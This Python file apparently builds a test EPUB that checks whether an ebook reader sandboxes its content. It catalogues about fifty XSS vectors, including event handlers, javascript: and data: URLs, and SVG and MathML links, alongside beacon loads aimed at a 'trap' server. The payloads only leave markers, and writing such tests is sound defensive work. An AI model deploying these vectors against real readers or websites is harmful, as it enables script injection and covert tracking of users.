"""A book that tries to run code in the reader and to tell others that it is read, in as many ways as we know.

Each attempt is numbered. What runs calls `ran(N)` on every window it can reach; what is loaded asks the trap, a server
of another port, for `/N`. Chapter by chapter, so that a fatal one does not hide the next.
"""

import zipfile
from collections.abc import Mapping
from pathlib import Path

ROOTS = 'xmlns="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink"'
RUN = "for(const w of [window,parent,top])try{{(w.__ran=w.__ran||[]).push({n})}}catch(e){{}}"
SVG = '<svg xmlns="http://www.w3.org/2000/svg">'
# {run}: code that leaves its number; {trap}: an address of the trap; the code holds no quotation mark but ' …
SCRIPTS: Mapping[str, str] = {
    "script": "<script>{run}</script>",
    "script in a comment of CDATA": "<script>//<![CDATA[\n{run}\n//]]></script>",
    "script from elsewhere": '<script src="{trap}"></script>',
    "script as a module": '<script type="module">{run}</script>',
    "script of the book": '<script src="evil.js"></script>',
    "script by data address": '<script src="data:text/javascript,{run}"></script>',
    "script in SVG": '<svg xmlns="http://www.w3.org/2000/svg"><script>{run}</script></svg>',
    "script linked in SVG": SVG + '<script xlink:href="data:text/javascript,{run}"/></svg>',
    "broken image": '<img src="nothing.png" alt="" onerror="{run}"/>',
    "handler of the pointer": '<div onmouseenter="{run}" onpointermove="{run}" style="height:900px">x</div>',
    "handler of focus": '<input autofocus="autofocus" onfocus="{run}"/>',
    "handler of SVG": '<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><rect width="9" height="9"/></svg>',
    "handler of animation": (
        "<style>@keyframes k{{from{{color:red}}to{{color:blue}}}}</style>"
        '<p style="animation:k .1s" onanimationstart="{run}">x</p>'
    ),
    "handler of details": '<details open="open" ontoggle="{run}"><summary>x</summary>y</details>',
    "handler of media": '<video src="nothing.mp4" onerror="{run}"></video><audio src="n.mp3" onerror="{run}"></audio>',
    "handler in upper case": '<img src="nothing.png" alt="" onError="{run}"/>',
    "frame with a document": '<iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe>',
    "frame of javascript": '<iframe src="javascript:{run}"></iframe>',
    "frame by data address": '<iframe src="data:text/html,&lt;script&gt;{run}&lt;/script&gt;"></iframe>',
    "object": '<object data="data:text/html,&lt;script&gt;{run}&lt;/script&gt;" type="text/html"></object>',
    "embed": '<embed src="data:text/html,&lt;script&gt;{run}&lt;/script&gt;" type="text/html"/>',
    "foreign object": (
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9">'
        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{run}"></iframe></foreignObject></svg>'
    ),
    "link of javascript": '<a id="click" href="javascript:{run}">click</a>',
    "link of javascript, disguised": '<a id="click" href=" jAvA&#9;script:{run}">click</a>',
    "link in SVG": SVG + '<a id="click" xlink:href="javascript:{run}"><text y="20">click</text></a></svg>',
    "animated link": (
        SVG + '<a id="click"><animate attributeName="href" values="javascript:{run}"/><text y="20">x</text></a></svg>'
    ),
    "form": '<form action="javascript:{run}"><button id="click">click</button></form>',
    "button of a form": '<form><button id="click" formaction="javascript:{run}">click</button></form>',
    "link of mathematics": (
        '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:{run}" id="click"><mi>x</mi></math>'
    ),
    "refresh to javascript": '<meta http-equiv="refresh" content="0;url=javascript:{run}"/>',
}
LOADS: Mapping[str, str] = {
    "picture": '<img src="{trap}" alt=""/>',
    "set of pictures": '<img srcset="{trap} 1x" alt=""/>',
    "picture of SVG": '<svg xmlns="http://www.w3.org/2000/svg"><image xlink:href="{trap}" width="9" height="9"/></svg>',
    "style sheet": '<link rel="stylesheet" href="{trap}"/>',
    "imported style": "<style>@import url({trap});</style>",
    "background": '<p style="background:url({trap})">x</p>',
    "font": "<style>@font-face{{font-family:f;src:url({trap})}}p{{font-family:f}}</style><p>x</p>",
    "style of the book that imports": '<link rel="stylesheet" href="evil.css"/><p class="evil">x</p>',
    "video": '<video src="{trap}" poster="{trap}" autoplay="autoplay"></video>',
    "audio": '<audio src="{trap}" autoplay="autoplay"></audio>',
    "frame": '<iframe src="{trap}"></iframe>',
    "object of elsewhere": '<object data="{trap}"></object>',
    "preload": '<link rel="preload" as="image" href="{trap}"/><link rel="prefetch" href="{trap}"/>',
    "base": '<base href="{trap}"/><img src="relative.png" alt=""/>',
    "refresh": '<meta http-equiv="refresh" content="0;url={trap}"/>',
    "form that sends": '<form action="{trap}"><button id="click">click</button></form>',
    "ping": '<a id="click" href="#x" ping="{trap}">click</a>',
    "use of SVG": '<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="{trap}#a"/></svg>',
    "filter": '<p style="filter:url({trap}#f);mask:url({trap});cursor:url({trap}),auto">x</p>',
}
CONTAINER = (
    '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
    '<rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
)


def attempts(trap: str) -> dict[int, tuple[str, str]]:
    """Return each attempt: its number, what it is, its XHTML."""
    found = {}
    for n, (name, body) in enumerate((SCRIPTS | LOADS).items(), start=1):
        found[n] = name, body.format(run=RUN.format(n=n), trap=f"{trap}/{n}")
    return found


def hostile_book(path: Path, trap: str) -> dict[int, tuple[str, str]]:
    """Write the book as EPUB, a chapter for each attempt; return the attempts."""
    made = attempts(trap)
    items = "".join(f'<item id="c{n}" href="c{n}.xhtml" media-type="application/xhtml+xml"/>' for n in made)
    spine = "".join(f'<itemref idref="c{n}"/>' for n in made)
    package = (
        '<package version="3.0" xmlns="http://www.idpf.org/2007/opf" unique-identifier="i">'
        '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Poison</dc:title>'
        '<dc:language>en</dc:language><dc:identifier id="i">poison</dc:identifier></metadata>'
        f'<manifest>{items}<item id="j" href="evil.js" media-type="text/javascript"/>'
        f'<item id="s" href="evil.css" media-type="text/css"/></manifest><spine>{spine}</spine></package>'
    )
    with zipfile.ZipFile(path, "w") as book:
        book.writestr("mimetype", "application/epub+zip", zipfile.ZIP_STORED)
        book.writestr("META-INF/container.xml", CONTAINER)
        book.writestr("book.opf", package)
        book.writestr("evil.js", RUN.format(n=0))
        book.writestr("evil.css", f"@import url({trap}/css); .evil{{background:url({trap}/css)}}")
        for n, (name, body) in made.items():
            text = f"<h1>{name}</h1><p>Chapter {n} holds a plain sentence about bees.</p>{body}"
            book.writestr(f"c{n}.xhtml", f"<html {ROOTS}><head><title>{n}</title></head><body>{text}</body></html>")
    return made
